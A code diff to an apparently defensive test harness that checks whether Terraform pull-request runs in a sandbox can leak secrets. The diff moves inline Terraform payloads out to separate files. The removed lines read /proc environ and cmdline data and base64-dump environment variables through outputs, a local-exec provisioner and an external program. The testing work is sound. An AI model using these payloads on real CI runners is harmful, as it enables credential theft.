@@ -4,7 +4,7 @@ import re
 from collections.abc import Callable
 
 from sandbox.attack.pull_requests import applied, planned
-from sandbox.attack.row import Outcome, Row, SkippedError, row
+from sandbox.attack.row import Outcome, Row, SkippedError, files, row
 from sandbox.attack.secret_forms import found_in, shows
 from sandbox.attack.target import Target
 
@@ -16,26 +16,6 @@ def _in_environment(target: Target) -> str:
 
 def _in_command_lines(target: Target) -> str:
     return "bin/executor\0plan" if target.isolated else "server\0--config"
-
-
-_OWN_ENVIRONMENT = 'output "loot" {\n  value = filebase64("/proc/self/environ")\n}\n'
-_EVERY_ENVIRONMENT = """
-output "loot" {
-  value = { for path in fileset("/proc", "[0-9]*/environ") : path => try(filebase64("/proc/${path}"), "") }
-}
-"""
-_EVERY_COMMAND_LINE = """
-output "loot" {
-  value = { for path in fileset("/proc", "[0-9]*/cmdline") : path => try(filebase64("/proc/${path}"), "") }
-}
-"""
-_PROVISIONER = """
-resource "terraform_data" "loot" {
-  provisioner "local-exec" {
-    command = "env | base64; cat /proc/self/environ /proc/$PPID/environ | base64"
-  }
-}
-"""
 
 
 def secrets_in(target: Target, text: str) -> Outcome:
@@ -62,40 +42,26 @@ def reading_row(name: str, read: Callable[[Target], str], shown: Callable[[Targe
     )
 
 
-def _plan_row(name: str, configuration: str, shown: Callable[[Target], str] = _in_environment) -> Row:
+def _plan_row(name: str, shown: Callable[[Target], str] = _in_environment) -> Row:
     """An attack whose plan prints what it can read."""
-    return reading_row(name, lambda target: planned(target, name, {"main.tf": configuration}).text, shown)
+    return reading_row(name, lambda target: planned(target, name, files(name)).text, shown)
 
 
 def _applied(target: Target) -> str:
     # Terraform adds a prefix to each line of a provisioner's output.
-    return re.sub(r"^.*\(local-exec\): ", "", applied(target, "local-exec", _PROVISIONER).text, flags=re.MULTILINE)
+    return re.sub(
+        r"^.*\(local-exec\): ",
+        "",
+        applied(target, "local-exec", files("local-exec")["main.tf"]).text,
+        flags=re.MULTILINE,
+    )
 
 
-_EXTERNAL = """
-terraform {
-  required_providers {
-    external = { source = "hashicorp/external" }
-  }
-}
-
-data "external" "loot" {
-  program = ["sh", "${path.module}/loot.sh"]
-}
-
-output "loot" {
-  value = data.external.loot.result.loot
-}
-"""
-_PROGRAM = """
-loot=$(cat /proc/self/environ "/proc/$PPID/environ" | base64 | tr -d '\\n')
-printf '{"loot": "%s"}' "$loot"
-"""
 _NOT_INSTALLED = "Failed to query available provider packages"
 
 
 def _by_external(target: Target) -> str:
-    text = planned(target, "external-program", {"main.tf": _EXTERNAL, "loot.sh": _PROGRAM}).text
+    text = planned(target, "external-program", files("external-program")).text
     if _NOT_INSTALLED in text:
         raise SkippedError(
             "the sandbox has no access to a registry, and this machine has no hashicorp/external provider"
@@ -109,11 +75,11 @@ def _everything_written(target: Target) -> str:
     return "\n".join(entry["body"] for entry in target.github.recorded("comments"))
 
 
-_OWN = _plan_row("file-own-environment", _OWN_ENVIRONMENT)
+_OWN = _plan_row("file-own-environment")
 ROWS = (
     _OWN,
-    _plan_row("file-every-environment", _EVERY_ENVIRONMENT),
-    _plan_row("file-command-lines", _EVERY_COMMAND_LINE, _in_command_lines),
+    _plan_row("file-every-environment"),
+    _plan_row("file-command-lines", _in_command_lines),
     reading_row("local-exec", _applied),
     reading_row("external-program", _by_external),
     reading_row("every-comment", _everything_written),
